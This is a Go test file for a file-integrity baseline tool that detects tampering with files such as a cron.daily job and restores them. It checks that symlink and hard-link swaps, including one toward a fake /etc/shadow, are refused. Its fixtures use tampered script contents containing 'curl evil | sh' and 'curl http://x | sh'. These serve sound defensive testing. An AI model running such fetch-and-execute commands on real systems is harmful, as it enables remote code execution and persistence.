package baseline

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

const jobPath = "/etc/cron.daily/job"

// statOK stats p under root and fails unless it is a hashed regular file.
func statOK(t *testing.T, root, p string) Entry {
	t.Helper()
	e, err := Stat(root, p, 0)
	if err != nil || e.Type != TypeFile || e.HashState != HashOK {
		t.Fatalf("Stat(%s) = %+v, %v", p, e, err)
	}
	return e
}

func readFile(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// readContentQuick runs ReadContent with a deadline: it must never block.
func readContentQuick(t *testing.T, root, p string, e *Entry, max int64) (b []byte, err error) {
	t.Helper()
	within(t, 5*time.Second, "ReadContent("+QuotePath(p)+")", func() { b, err = ReadContent(root, p, e, max) })
	return b, err
}

func TestReadContent(t *testing.T) {
	t.Parallel()
	const content = "#!/bin/sh\necho persistence\n"
	t.Run("matches", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		b, err := readContentQuick(t, root, jobPath, &e, 1<<20)
		if err != nil || string(b) != content {
			t.Errorf("ReadContent = %q, %v", b, err)
		}
		// max equal to the size is enough.
		if b, err := readContentQuick(t, root, jobPath, &e, e.Size); err != nil || string(b) != content {
			t.Errorf("max = size: %q, %v", b, err)
		}
		// A root given as "/" + a path under it, with an unclean logical path.
		if b, err := readContentQuick(t, root+"/", "/etc//cron.daily/./job", &e, 1<<20); err != nil || string(b) != content {
			t.Errorf("unclean path: %q, %v", b, err)
		}
	})
	t.Run("empty file", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, jobPath, "", 0o644)
		e := statOK(t, root, jobPath)
		if b, err := readContentQuick(t, root, jobPath, &e, 1<<20); err != nil || len(b) != 0 {
			t.Errorf("ReadContent = %q, %v", b, err)
		}
	})
	t.Run("binary", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		bin := string([]byte{0, 1, 2, 0xff, '\n', 0})
		write(t, root, jobPath, bin, 0o644)
		e := statOK(t, root, jobPath)
		if b, err := readContentQuick(t, root, jobPath, &e, 1<<20); err != nil || string(b) != bin {
			t.Errorf("ReadContent = %q, %v", b, err)
		}
	})
	changed := map[string]string{
		"same size":   "#!/bin/sh\necho persistencX\n",
		"appended":    content + "curl evil | sh\n",
		"truncated":   content[:5],
		"now empty":   "",
		"same prefix": content + "\x00",
	}
	for name, now := range changed {
		t.Run("changed "+name, func(t *testing.T) {
			t.Parallel()
			root := t.TempDir()
			p := write(t, root, jobPath, content, 0o755)
			e := statOK(t, root, jobPath)
			if err := os.WriteFile(p, []byte(now), 0o755); err != nil { // same inode
				t.Fatal(err)
			}
			b, err := readContentQuick(t, root, jobPath, &e, 1<<20)
			if !errors.Is(err, ErrChanged) || b != nil {
				t.Errorf("ReadContent = %q, %v; want ErrChanged", b, err)
			}
			var pe *PathError
			if !errors.As(err, &pe) || pe.Path != jobPath {
				t.Errorf("error %v is not a PathError for %s", err, jobPath)
			}
		})
	}
	t.Run("replaced", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		// Same content, another inode, renamed over the name.
		write(t, root, "etc/cron.daily/.new", content, 0o755)
		if err := os.Rename(filepath.Join(root, "etc/cron.daily/.new"), filepath.Join(root, jobPath)); err != nil {
			t.Fatal(err)
		}
		b, err := readContentQuick(t, root, jobPath, &e, 1<<20)
		if !errors.Is(err, ErrReplaced) || b != nil {
			t.Errorf("ReadContent = %q, %v; want ErrReplaced", b, err)
		}
	})
	t.Run("gone", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		p := write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		os.Remove(p)
		if b, err := readContentQuick(t, root, jobPath, &e, 1<<20); !errors.Is(err, os.ErrNotExist) || b != nil {
			t.Errorf("ReadContent = %q, %v; want ENOENT", b, err)
		}
	})
	t.Run("replaced by a symlink", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		p := write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		// A symlink to the very file that was stat'ed: following it would give the right bytes.
		other := filepath.Join(root, "etc/cron.daily/real")
		if err := os.Rename(p, other); err != nil {
			t.Fatal(err)
		}
		symlink(t, other, p)
		b, err := readContentQuick(t, root, jobPath, &e, 1<<20)
		var pe *PathError
		if err == nil || b != nil || !errors.As(err, &pe) {
			t.Errorf("ReadContent = %q, %v; want a PathError (never follows)", b, err)
		}
	})
	t.Run("replaced by a fifo", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		p := write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		os.Remove(p)
		if err := unix.Mkfifo(p, 0o644); err != nil {
			t.Fatal(err)
		}
		b, err := readContentQuick(t, root, jobPath, &e, 1<<20)
		if !errors.Is(err, ErrReplaced) || b != nil {
			t.Errorf("ReadContent = %q, %v; want ErrReplaced", b, err)
		}
	})
	t.Run("symlinked directory", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, "etc/real/job", content, 0o755)
		e := statOK(t, root, "/etc/real/job")
		symlink(t, "real", filepath.Join(root, "etc/cron.daily"))           // relative, inside root
		symlink(t, filepath.Join(root, "etc"), filepath.Join(root, "etc2")) // absolute
		for _, p := range []string{"/etc/cron.daily/job", "/etc2/real/job"} {
			b, err := readContentQuick(t, root, p, &e, 1<<20)
			var pe *PathError
			if err == nil || b != nil || !errors.As(err, &pe) {
				t.Errorf("%s: ReadContent = %q, %v; want an error (a directory symlink is never followed)", p, b, err)
			}
		}
	})
	t.Run("over max", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		b, err := readContentQuick(t, root, jobPath, &e, e.Size-1)
		if err == nil || b != nil || !strings.Contains(err.Error(), "cap") {
			t.Errorf("ReadContent = %q, %v; want over the cap", b, err)
		}
		// The entry's size is what counts, not the file's: a file grown past max is read only
		// up to the entry's size + 1, and refused as changed.
		big := strings.Repeat("x", 1<<16)
		if err := os.WriteFile(filepath.Join(root, jobPath), []byte(big), 0o755); err != nil {
			t.Fatal(err)
		}
		if b, err := readContentQuick(t, root, jobPath, &e, e.Size); !errors.Is(err, ErrChanged) || b != nil {
			t.Errorf("grown: %q, %v; want ErrChanged", b, err)
		}
	})
	t.Run("not a hashed file", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		for _, f := range []func(e *Entry){
			func(e *Entry) { e.HashState = HashTooLarge; e.SHA256 = "" },
			func(e *Entry) { e.HashState = HashNotComputed },
			func(e *Entry) { e.Type = TypeDir },
		} {
			c := e
			f(&c)
			if b, err := readContentQuick(t, root, jobPath, &c, 1<<20); err == nil || b != nil {
				t.Errorf("entry %+v: ReadContent = %q, %v; want an error", c, b, err)
			}
		}
	})
	t.Run("wrong sha in the entry", func(t *testing.T) {
		t.Parallel()
		root := t.TempDir()
		write(t, root, jobPath, content, 0o755)
		e := statOK(t, root, jobPath)
		e.SHA256 = sha("something else")
		if b, err := readContentQuick(t, root, jobPath, &e, 1<<20); !errors.Is(err, ErrChanged) || b != nil {
			t.Errorf("ReadContent = %q, %v; want ErrChanged", b, err)
		}
	})
}

// restoreFixture writes root/etc/cron.daily/job with content and mode, and returns its path on
// disk and its entry (the baseline to restore to).
func restoreFixture(t *testing.T, content string, mode os.FileMode) (root, file string, want Entry) {
	t.Helper()
	root = t.TempDir()
	file = write(t, root, jobPath, content, mode)
	return root, file, statOK(t, root, jobPath)
}

func leftovers(t *testing.T, dir string) []string {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), ".tripline-restore-") {
			out = append(out, e.Name())
		}
	}
	return out
}

func modeOf(t *testing.T, p string) uint32 {
	t.Helper()
	var st unix.Stat_t
	if err := unix.Lstat(p, &st); err != nil {
		t.Fatal(err)
	}
	return st.Mode & ModePerm
}

func TestRestoreMode(t *testing.T) {
	t.Parallel()
	const orig = "#!/bin/sh\nrun-parts\n"
	root, file, want := restoreFixture(t, orig, 0o750)
	if err := unix.Chmod(file, 0o4777); err != nil {
		t.Fatal(err)
	}
	cur := statOK(t, root, jobPath)
	plan, err := Restore(root, jobPath, &cur, &want, nil, false, false)
	if err != nil {
		t.Fatal(err)
	}
	if plan != (RestorePlan{Mode: true}) {
		t.Errorf("plan = %+v, want mode only", plan)
	}
	if ch := plan.Changes(&cur, &want); len(ch) != 1 || ch[0] != "mode 4777 -> 0750" {
		t.Errorf("Changes = %q", ch)
	}
	after := statOK(t, root, jobPath)
	if after.Mode != 0o750 || after.Inode != want.Inode || after.SHA256 != want.SHA256 {
		t.Errorf("after: mode %o inode %d sha %s; want 0750, the same inode and content", after.Mode, after.Inode, after.SHA256)
	}
	// Nothing left to do.
	plan, err = Restore(root, jobPath, &after, &want, nil, false, false)
	if err != nil || plan != (RestorePlan{}) || len(plan.Changes(&after, &want)) != 0 {
		t.Errorf("again: %+v, %v", plan, err)
	}
}

func TestRestoreContent(t *testing.T) {
	t.Parallel()
	const orig = "#!/bin/sh\nrun-parts /etc/cron.daily\n"
	const evil = "#!/bin/sh\ncurl http://x | sh\n"
	root, file, want := restoreFixture(t, orig, 0o750)
	dir := filepath.Dir(file)
	if err := os.WriteFile(file, []byte(evil), 0); err != nil {
		t.Fatal(err)
	}
	if err := unix.Chmod(file, 0o777); err != nil {
		t.Fatal(err)
	}
	// A hard link keeps the old inode: the restore must replace the name, not write into it.
	if err := os.Link(file, filepath.Join(dir, "hardlink")); err != nil {
		t.Fatal(err)
	}
	cur := statOK(t, root, jobPath)
	plan, err := Restore(root, jobPath, &cur, &want, []byte(orig), false, false)
	if err != nil {
		t.Fatal(err)
	}
	if !plan.Content || !plan.Mode || plan.ContentMissing || plan.Create {
		t.Errorf("plan = %+v", plan)
	}
	after := statOK(t, root, jobPath)
	if readFile(t, file) != orig || after.SHA256 != want.SHA256 || after.Mode != 0o750 {
		t.Errorf("after: %q mode %o", readFile(t, file), after.Mode)
	}
	if after.Inode == cur.Inode {
		t.Error("content was written into the file, not renamed over it")
	}
	if readFile(t, filepath.Join(dir, "hardlink")) != evil {
		t.Error("the old inode was changed")
	}
	if l := leftovers(t, dir); len(l) != 0 {
		t.Errorf("left behind: %v", l)
	}
	if after.UID != want.UID || after.GID != want.GID {
		t.Errorf("owner %d:%d, want %d:%d", after.UID, after.GID, want.UID, want.GID)
	}
	if after.MtimeNS != want.MtimeNS {
		t.Errorf("mtime %d, want the baseline's %d", after.MtimeNS, want.MtimeNS)
	}
}

func TestRestoreContentMissing(t *testing.T) {
	t.Parallel()
	const orig = "original\n"
	const evil = "changed!!\n"
	for name, content := range map[string][]byte{"nil": nil, "wrong size": []byte("short")} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			root, file, want := restoreFixture(t, orig, 0o644)
			if err := os.WriteFile(file, []byte(evil), 0); err != nil {
				t.Fatal(err)
			}
			unix.Chmod(file, 0o666)
			cur := statOK(t, root, jobPath)
			plan, err := Restore(root, jobPath, &cur, &want, content, false, false)
			if err != nil {
				t.Fatal(err)
			}
			if !plan.ContentMissing || plan.Content || !plan.Mode {
				t.Errorf("plan = %+v", plan)
			}
			if ch := strings.Join(plan.Changes(&cur, &want), "\n"); !strings.Contains(ch, "NOT restored") {
				t.Errorf("Changes = %q", ch)
			}
			after := statOK(t, root, jobPath)
			if readFile(t, file) != evil || after.Mode != 0o644 || after.Inode != cur.Inode {
				t.Errorf("after: %q mode %o", readFile(t, file), after.Mode)
			}
		})
	}
}

func TestRestoreModeOnly(t *testing.T) {
	t.Parallel()
	const orig, evil = "original\n", "changed\n"
	root, file, want := restoreFixture(t, orig, 0o700)
	os.WriteFile(file, []byte(evil), 0)
	unix.Chmod(file, 0o755)
	cur := statOK(t, root, jobPath)
	plan, err := Restore(root, jobPath, &cur, &want, []byte(orig), true, false)
	if err != nil {
		t.Fatal(err)
	}
	if plan != (RestorePlan{Mode: true}) {
		t.Errorf("plan = %+v, want mode only", plan)
	}
	if readFile(t, file) != evil || modeOf(t, file) != 0o700 {
		t.Errorf("after: %q mode %o", readFile(t, file), modeOf(t, file))
	}
}

func TestRestoreDryRun(t *testing.T) {
	t.Parallel()
	const orig, evil = "original\n", "changed\n"
	root, file, want := restoreFixture(t, orig, 0o700)
	os.WriteFile(file, []byte(evil), 0)
	unix.Chmod(file, 0o755)
	cur := statOK(t, root, jobPath)
	plan, err := Restore(root, jobPath, &cur, &want, []byte(orig), false, true)
	if err != nil {
		t.Fatal(err)
	}
	if !plan.Content || !plan.Mode {
		t.Errorf("plan = %+v", plan)
	}
	after := statOK(t, root, jobPath)
	if after != cur || readFile(t, file) != evil {
		t.Errorf("a dry run changed the file: %+v -> %+v", cur, after)
	}
	// A gone file: planned, not created.
	os.Remove(file)
	plan, err = Restore(root, jobPath, nil, &want, []byte(orig), false, true)
	if err != nil || !plan.Create {
		t.Errorf("dry run, gone: %+v, %v", plan, err)
	}
	if _, err := os.Lstat(file); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("a dry run created the file: %v", err)
	}
	if l := leftovers(t, filepath.Dir(file)); len(l) != 0 {
		t.Errorf("left behind: %v", l)
	}
}

func TestRestoreSymlink(t *testing.T) {
	t.Parallel()
	const orig = "original\n"
	root, file, want := restoreFixture(t, orig, 0o644)
	outside := write(t, t.TempDir(), "passwd", "root:x:0:0::/root:/bin/sh\n", 0o600)
	os.Remove(file)
	symlink(t, outside, file)
	cur, err := Stat(root, jobPath, 0)
	if err != nil || cur.Type != TypeSymlink {
		t.Fatalf("Stat = %+v, %v", cur, err)
	}
	for _, modeOnly := range []bool{false, true} {
		_, err = Restore(root, jobPath, &cur, &want, []byte(orig), modeOnly, false)
		if !errors.Is(err, ErrNotRestorable) {
			t.Errorf("modeOnly %v: Restore = %v, want ErrNotRestorable", modeOnly, err)
		}
	}
	if readFile(t, outside) != "root:x:0:0::/root:/bin/sh\n" || modeOf(t, outside) != 0o600 {
		t.Error("the symlink's target was changed")
	}
	if target, err := os.Readlink(file); err != nil || target != outside {
		t.Errorf("the symlink was changed: %q %v", target, err)
	}

	// The caller's observation is stale: it saw a regular file, with the wrong mode, and the
	// name is a symlink now. The mode is never set through it.
	stale := want
	stale.Mode = 0o777
	_, err = Restore(root, jobPath, &stale, &want, nil, false, false)
	if err == nil {
		t.Error("Restore through a symlink swapped in: no error")
	}
	if modeOf(t, outside) != 0o600 || readFile(t, outside) != "root:x:0:0::/root:/bin/sh\n" {
		t.Errorf("the symlink's target was changed: mode %o", modeOf(t, outside))
	}
}

func TestRestoreNotAFile(t *testing.T) {
	t.Parallel()
	root, file, want := restoreFixture(t, "x\n", 0o644)
	// The baseline has a directory: nothing to restore.
	dirWant := want
	dirWant.Type = TypeDir
	if _, err := Restore(root, jobPath, &want, &dirWant, nil, false, false); !errors.Is(err, ErrNotRestorable) {
		t.Errorf("baseline dir: %v", err)
	}
	// The path is a directory now.
	os.Remove(file)
	mkdir(t, root, "etc/cron.daily/job", 0o755)
	cur, err := Stat(root, jobPath, 0)
	if err != nil || cur.Type != TypeDir {
		t.Fatal(cur, err)
	}
	if _, err := Restore(root, jobPath, &cur, &want, []byte("x\n"), false, false); !errors.Is(err, ErrNotRestorable) {
		t.Errorf("now a directory: %v", err)
	}
	// The caller thought it gone, but a directory is there: the rename fails and nothing is
	// left behind.
	if _, err := Restore(root, jobPath, nil, &want, []byte("x\n"), false, false); err == nil {
		t.Error("re-create over a directory: no error")
	}
	if l := leftovers(t, filepath.Dir(file)); len(l) != 0 {
		t.Errorf("left behind: %v", l)
	}
	if st, err := os.Lstat(file); err != nil || !st.IsDir() {
		t.Errorf("the directory was replaced: %v %v", st, err)
	}
}

func TestRestoreGone(t *testing.T) {
	t.Parallel()
	const orig = "#!/bin/sh\n"
	root, file, want := restoreFixture(t, orig, 0o4750)
	os.Remove(file)
	plan, err := Restore(root, jobPath, nil, &want, []byte(orig), false, false)
	if err != nil {
		t.Fatal(err)
	}
	if plan != (RestorePlan{Create: true}) {
		t.Errorf("plan = %+v", plan)
	}
	if ch := plan.Changes(nil, &want); len(ch) != 1 || !strings.Contains(ch[0], "re-created") {
		t.Errorf("Changes = %q", ch)
	}
	after := statOK(t, root, jobPath)
	if readFile(t, file) != orig || after.Mode != 0o4750 || after.UID != want.UID || after.GID != want.GID {
		t.Errorf("re-created: %q mode %o owner %d:%d", readFile(t, file), after.Mode, after.UID, after.GID)
	}
	if l := leftovers(t, filepath.Dir(file)); len(l) != 0 {
		t.Errorf("left behind: %v", l)
	}

	os.Remove(file)
	for _, c := range []struct {
		name     string
		content  []byte
		modeOnly bool
	}{{"no content", nil, false}, {"wrong size", []byte("#!"), false}, {"mode only", []byte(orig), true}} {
		if _, err := Restore(root, jobPath, nil, &want, c.content, c.modeOnly, false); !errors.Is(err, ErrNotRestorable) {
			t.Errorf("%s: %v, want ErrNotRestorable", c.name, err)
		}
	}
	if _, err := os.Lstat(file); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("created anyway: %v", err)
	}
}

func TestRestoreSymlinkedParent(t *testing.T) {
	t.Parallel()
	const orig = "original\n"
	root, file, want := restoreFixture(t, orig, 0o644)
	elsewhere := t.TempDir()
	victim := write(t, elsewhere, "job", "elsewhere\n", 0o600)
	dir := filepath.Dir(file)
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	symlink(t, elsewhere, dir) // root/etc/cron.daily -> elsewhere
	// Gone (as the caller sees it), content given: would be created in elsewhere.
	if _, err := Restore(root, jobPath, nil, &want, []byte(orig), false, false); err == nil {
		t.Error("re-create through a symlinked directory: no error")
	}
	// Mode and content differ (the caller's stale observation).
	cur := want
	cur.Mode, cur.SHA256, cur.Size = 0o777, sha("elsewhere\n"), 10
	if _, err := Restore(root, jobPath, &cur, &want, []byte(orig), false, false); err == nil {
		t.Error("restore through a symlinked directory: no error")
	}
	if _, err := Restore(root, jobPath, &cur, &want, nil, true, false); err == nil {
		t.Error("mode restore through a symlinked directory: no error")
	}
	ents, _ := os.ReadDir(elsewhere)
	if len(ents) != 1 || readFile(t, victim) != "elsewhere\n" || modeOf(t, victim) != 0o600 {
		t.Errorf("something was written in %s: %v, mode %o", elsewhere, ents, modeOf(t, victim))
	}
}

func TestRestoreOwner(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root to chown")
	}
	t.Parallel()
	const orig = "#!/bin/sh\nid\n"
	root, file, want := restoreFixture(t, orig, 0o4755)
	// A chown clears setuid: the mode differs too.
	if err := os.Chown(file, 1, 1); err != nil {
		t.Fatal(err)
	}
	cur := statOK(t, root, jobPath)
	if cur.UID != 1 || cur.GID != 1 {
		t.Fatalf("chown: %d:%d", cur.UID, cur.GID)
	}
	plan, err := Restore(root, jobPath, &cur, &want, nil, false, false)
	if err != nil {
		t.Fatal(err)
	}
	if !plan.Owner || plan.Content {
		t.Errorf("plan = %+v", plan)
	}
	if ch := strings.Join(plan.Changes(&cur, &want), "\n"); !strings.Contains(ch, "owner 1:1 -> ") {
		t.Errorf("Changes = %q", ch)
	}
	after := statOK(t, root, jobPath)
	if after.UID != want.UID || after.GID != want.GID || after.Mode != 0o4755 || after.Inode != want.Inode {
		t.Errorf("after: owner %d:%d mode %o; want %d:%d 4755 (setuid put back after the chown)", after.UID, after.GID, after.Mode, want.UID, want.GID)
	}

	// The other way round, with content: the baseline is owned by 1:1; the new file gets its owner.
	if err := os.Chown(file, 1, 1); err != nil {
		t.Fatal(err)
	}
	unix.Chmod(file, 0o2750)
	want1 := statOK(t, root, jobPath)
	os.WriteFile(file, []byte("changed\n"), 0)
	os.Chown(file, 0, 0)
	cur = statOK(t, root, jobPath)
	plan, err = Restore(root, jobPath, &cur, &want1, []byte(orig), false, false)
	if err != nil || !plan.Content || !plan.Owner {
		t.Fatalf("plan = %+v, %v", plan, err)
	}
	after = statOK(t, root, jobPath)
	if after.UID != 1 || after.GID != 1 || after.Mode != 0o2750 || after.SHA256 != want1.SHA256 {
		t.Errorf("after: owner %d:%d mode %o sha %s", after.UID, after.GID, after.Mode, after.SHA256)
	}
}

// The attack of issue 13: the file in the baseline is replaced by a hard link to a file outside
// every location (~/.bashrc -> /etc/shadow). Neither a mode-only restore nor a restore without
// stored content may chmod or chown that other file; a restore with content replaces the name and
// leaves the other file alone.
func TestRestoreRefusesHardLinkToAnotherFile(t *testing.T) {
	t.Parallel()
	root, file, want := restoreFixture(t, "#!/bin/sh\nid\n", 0o755)
	shadow := write(t, root, "/etc/shadow", "root:*:19000::::::\n", 0o600)
	before := statOK(t, root, "/etc/shadow")
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	if err := os.Link(shadow, file); err != nil {
		t.Fatal(err)
	}
	cur := statOK(t, root, jobPath)
	if cur.Nlink != 2 || cur.Inode != before.Inode {
		t.Fatalf("fixture: nlink %d inode %d", cur.Nlink, cur.Inode)
	}
	for _, tt := range []struct {
		name     string
		content  []byte
		modeOnly bool
	}{{"mode only", nil, true}, {"content not stored", nil, false}} {
		_, err := Restore(root, jobPath, &cur, &want, tt.content, tt.modeOnly, false)
		if !errors.Is(err, ErrNotRestorable) || !strings.Contains(err.Error(), "hard link (2 names)") || strings.Contains(err.Error(), "\n") {
			t.Errorf("%s: %v", tt.name, err)
		}
		if after := statOK(t, root, "/etc/shadow"); after.Mode != 0o600 || after.UID != before.UID || after.GID != before.GID {
			t.Fatalf("%s: /etc/shadow became %o %d:%d", tt.name, after.Mode, after.UID, after.GID)
		}
	}
	// With the baseline content the name is replaced by a new file; shadow keeps its mode.
	plan, err := Restore(root, jobPath, &cur, &want, []byte("#!/bin/sh\nid\n"), false, false)
	if err != nil || !plan.Content {
		t.Fatalf("restore with content: %+v %v", plan, err)
	}
	after, shadowAfter := statOK(t, root, jobPath), statOK(t, root, "/etc/shadow")
	if after.Inode == before.Inode || after.Nlink != 1 || after.Mode != 0o755 || shadowAfter.Mode != 0o600 || shadowAfter.Nlink != 1 {
		t.Errorf("after: job inode %d nlink %d mode %o, shadow mode %o nlink %d", after.Inode, after.Nlink, after.Mode, shadowAfter.Mode, shadowAfter.Nlink)
	}
}

// A file that was already hard-linked when the baseline approved it is still restored: it is the
// inode the baseline names.
func TestRestoreApprovedHardLink(t *testing.T) {
	t.Parallel()
	root, file, _ := restoreFixture(t, "#!/bin/sh\nid\n", 0o755)
	if err := os.Link(file, filepath.Join(root, "etc/cron.daily/job.copy")); err != nil {
		t.Fatal(err)
	}
	want := statOK(t, root, jobPath)
	if err := unix.Chmod(file, 0o4777); err != nil {
		t.Fatal(err)
	}
	cur := statOK(t, root, jobPath)
	if plan, err := Restore(root, jobPath, &cur, &want, nil, true, false); err != nil || !plan.Mode {
		t.Fatalf("%+v %v", plan, err)
	}
	if m := statOK(t, root, jobPath).Mode; m != 0o755 {
		t.Errorf("mode %o", m)
	}
}
